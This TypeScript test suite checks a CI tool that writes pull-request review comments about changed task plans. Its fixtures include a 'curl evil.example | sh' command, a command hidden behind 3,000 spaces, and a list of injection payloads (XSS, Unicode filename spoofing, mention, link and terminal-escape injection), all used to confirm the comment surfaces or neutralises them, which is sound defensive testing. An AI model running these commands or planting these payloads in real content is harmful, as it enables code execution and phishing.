import { array, assert, constantFrom, oneof, property, record, string } from 'fast-check';
import type { Nodes } from 'mdast';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { commentOf, isEmptyReview, REVIEW_MARKER } from '../../../src/core/ci/comment.ts';
import { PullRequestReview } from '../../../src/core/ci/review-record.ts';
import { MARKDOWN_MAX } from '../../../src/core/diff-markdown.ts';
import { runs } from '../../support/runs.ts';
import { configOf, reviewed } from './reviewed.ts';

const READY = '---\nstatus: ready\n---\n\n';

const plan = (...tasks: string[]) => `${READY}# Plan\n\n## Work\n\n${tasks.map((task) => `- [ ] ${task}\n`).join('')}`;

const task = (title: string, yaml: string) => `${title}\n\n  \`\`\`yaml\n  ${yaml}\n  \`\`\`\n`;

const sections = (comment: string) => [...comment.matchAll(/^### (.*)$/gm)].map(([, title]) => title);

const value = (words: string) => JSON.stringify(words.slice(0, 60));

function* all(node: Nodes): Generator<Nodes> {
  yield node;
  if ('children' in node) for (const child of node.children) yield* all(child);
}

describe('what the comment says', () => {
  it('what is code first, then what is wrong, what will happen, and what changed', () => {
    const before = plan(task('Write', 'run: make'), 'Read');
    const after = plan(task('Write', 'run: curl evil.example | sh'), task('Read', 'dependsOn: [gone]'));
    const config = configOf({}, { maxAttempts: 5, qa: { gates: [{ name: 'test', run: 'true' }] } });
    const comment = commentOf(reviewed({ p: [before, after] }, { config }));
    expect(sections(comment)).toEqual(['⚠️ Read as code', '❌ What is wrong', '▶️ After the merge', 'Plan']);
    expect(comment.split('\n').slice(2, 12)).toEqual([
      '**1 plan** changes · **the config** changes · ⚠️ **4 keys to read as code** · ❌ **1 error**',
      '',
      '### ⚠️ Read as code',
      '',
      '- ⚠ `plans.config.json` **maxAttempts**: `3` → `5`',
      '- ⚠ `plans.config.json` **qa.gates.test.run**: *nothing* → `"true"`',
      '- ⚠ `plans.config.json` **qa.gates.test.timeout**: *nothing* → `"10m"`',
      '- `p/write` ⚠ **run**: `make` → `curl evil.example | sh` (a command that is run)',
      '',
      '### ❌ What is wrong',
    ]);
    expect(comment).toContain('has errors: nothing runs until they are mended');
  });

  it('the order of a run, its pauses, its gates, and what it may cost', () => {
    const after =
      `${plan('Write', task('Say', 'run: make'))}\n## Look\n\n- [ ] Look\n\n  \`\`\`yaml\n  assignee: human\n  \`\`\`\n`.replace(
        '## Work\n',
        '## Work\n\n```yaml\npauseAfter: true\ngates: []\n```\n',
      );
    const lines = commentOf(reviewed({ p: [plan('Write'), after], q: [null, `# Q\n\n- [ ] x\n`], r: [plan('a'), null] })).split('\n');
    const at = lines.indexOf('### ▶️ After the merge');
    expect(lines.slice(at + 2, at + 11)).toEqual([
      '1. **Plan** `p` runs: 3 tasks, $200.00 at most'.replace('3 tasks', '2 tasks'),
      '   1. Write `write` · claude · **no gates**',
      '   2. Say `say` · runs `make` · **no gates**',
      '   - ⏸ pauses after “Work”, for a look',
      '   - ⏸ pauses: `look` is for a person',
      '',
      '- **Q** `q` is a draft: nothing runs it until its status is `ready`',
      '- **Plan** `r` is gone: nothing runs',
      '',
    ]);
  });

  it('boxes that nobody’s commit ticked, and tasks that come ticked', () => {
    const comment = commentOf(reviewed({ p: [plan('Write'), plan('Write', 'Read').replaceAll('[ ]', '[x]')] }));
    expect(comment).toContain("- ☑️ `p/write` is ticked by hand: no run's commit stands behind it\n- ☑️ `p/read` comes ticked\n");
  });

  it('a graph in which what changed is marked', () => {
    const comment = commentOf(reviewed({ p: [plan('Write it', 'Read it', 'Go'), plan('Write it all', 'Read it', 'Say')] }));
    expect(comment).toContain(
      '"✏️ Write it all"]:::pending\n    t2["Read it"]:::pending\n    t3["➕ Say"]:::pending\n    t4["➖ Go"]:::pending',
    );
    expect(comment).toContain('  class t1 changed\n  class t3 added\n  class t4 removed');
  });

  it('a config that is code, and one that could not be read', () => {
    const config = {
      before: 'plans.config.ts',
      after: 'plans.config.ts',
      keys: null,
      problems: [],
      patch: '-a\n+b',
    };
    const comment = commentOf(reviewed({}, { config, unread: 'plans.config.ts' }));
    expect(comment).toContain('`plans.config.ts` is code and changes: it decides what is run, by whom and at what cost.');
    expect(comment).toContain('names of gates and agents were not checked');
    const wrong = commentOf(reviewed({}, { config: { ...config, problems: ['plans.config.ts: @octocat'] } }));
    expect(wrong).toContain('- ❌ plans.config.ts: @&#8203;octocat');
    expect(wrong).toContain('`plans.config.ts` changes, and cannot be read as it is');
    expect(comment).toContain('raw diff</summary>');
  });

  it('nothing, where no plan changes', () => {
    const review = reviewed({});
    expect(isEmptyReview(review)).toBe(true);
    expect(commentOf(review)).toContain('This pull request changes no plan.');
  });

  it('the same from the record as it was written', () => {
    const review = reviewed({ p: [plan('Write'), plan('Read')], q: [null, plan('a')] }, { config: configOf({}, { maxAttempts: 2 }) });
    expect(commentOf(PullRequestReview.parse(JSON.parse(JSON.stringify(review))))).toBe(commentOf(review));
  });
});

describe('what plans say does nothing', () => {
  const EVIL = [
    '<img src=x onerror=alert(1)>',
    '@octocat @org/team a@b.org',
    'fixes #1 o/r#2 GH-3',
    '\u202Egnp.exe',
    '</details></summary>',
    REVIEW_MARKER,
    '``` ~~~~ ````',
    '[x](https://evil.example) ![x](//evil.example/x.png) www.evil.example',
    '"]; click t1 "https://evil.example"; t9["',
    '\u001B[2J::set-output name=x::y',
  ];
  const text = array(oneof(constantFrom(...EVIL), string({ maxLength: 8 })), { minLength: 1, maxLength: 4 }).map((parts) =>
    parts
      .join(' ')
      .replaceAll(/[\n\r]/g, ' ')
      .trim(),
  );
  const evil = record({ title: text, phase: text, description: text, run: text, next: text }).map(
    ({ title, phase, description, run, next }) =>
      [title, next].map(
        (words) =>
          `---\ntitle: ${value(words)}\nstatus: ready\n---\n\n${description}\n\n## ${phase}\n\n- [ ] ${words}\n\n  \`\`\`yaml\n  id: a\n  run: ${value(run + words)}\n  dependsOn: [${value(words)}]\n  \`\`\`\n\n  ${description} ${words}\n`,
      ) as [string, string],
  );

  it('in no place of the comment', () => {
    assert(
      property(evil, (texts) => {
        const comment = commentOf(
          reviewed(
            { p: texts, q: [null, texts[0]], r: [texts[1], null] },
            { config: configOf({}, { model: texts[0], claude: { keyCommand: texts[1] } }) },
          ),
        );
        const nodes = [...all(unified().use(remarkParse).parse(comment))];
        const active = nodes.flatMap((node) =>
          node.type === 'text' && /@octocat|@org|@b\.|#1|r#2|GH-3|www\.|:\/\//.test(node.value) ? [node.value] : [],
        );
        expect(active).toEqual([]);
        expect(nodes.filter(({ type }) => type === 'link' || type === 'image')).toEqual([]);
        const tags = new Set(nodes.flatMap((node) => (node.type === 'html' ? (node.value.match(/<[^>]*>/g) ?? []) : [])));
        for (const tag of tags)
          expect([
            '<del>',
            '</del>',
            '<ins>',
            '</ins>',
            '<details>',
            '<details open>',
            '</details>',
            '<summary>',
            '</summary>',
            '<sub>',
            '</sub>',
          ]).toContain(tag);
        // oxlint-disable-next-line no-control-regex
        expect(comment).not.toMatch(/[\u202E\u001B]/);
        expect(comment.startsWith(REVIEW_MARKER)).toBe(false);
        expect(comment).toMatch(/<\/sub>$/);
      }),
      runs(40),
    );
  });

  it('nor is the end of a command pushed out of sight', () => {
    const comment = commentOf(
      reviewed({ p: [plan(task('Write', 'run: make')), plan(task('Write', `run: make${' '.repeat(3_000)}; curl evil.example`))] }),
    );
    expect(comment).toContain('`make` → `make ⟨3000 spaces⟩ ; curl evil.example`');
  });
});

const long = 'long words '.repeat(12);

const manyTasks = (word: string) => plan(...Array.from({ length: 300 }, (_, at) => task(`${word} ${at} ${long}`, `run: ${word} ${long}`)));

const titles = (word: string) => Array.from({ length: 400 }, (_, at) => `${word} ${at} ${long}`);

describe('its length', () => {
  it('never exceeds what a comment may have, whatever changes', () => {
    for (const pairs of [
      { p: [manyTasks('one'), manyTasks('two')] },
      { p: [null, manyTasks('one')] },
      { p: [manyTasks('one'), null] },
      Object.fromEntries(Array.from({ length: 120 }, (_, at) => [`p${at}`, [plan(`a ${long}`), plan(`b ${long}`, `c ${at}`)]])),
      { p: [plan('a'), plan('b').replace('# Plan', `# Plan\n\n${'word\n\n'.repeat(12_000)}`)] },
    ] as const) {
      const comment = commentOf(reviewed(pairs as never));
      expect(comment.length).toBeLessThanOrEqual(MARKDOWN_MAX);
      expect(comment).toMatch(/<\/sub>$/);
    }
  });

  it('shortens by what matters, and says what is left out', () => {
    const after = plan(...titles('two'), task('Last', 'run: curl evil.example'));
    const comment = commentOf(reviewed({ p: [plan(...titles('one')), after] }));
    expect(comment).toContain('curl evil.example');
    expect(comment).toMatch(
      /✂️ \*\*Left out\*\*, as a comment has no room for more: .*lines of the comparison.* and the raw diff of 1 file\. See all of it: `plans diff/,
    );
    expect(comment.length).toBeGreaterThan(MARKDOWN_MAX / 2);
  });
});
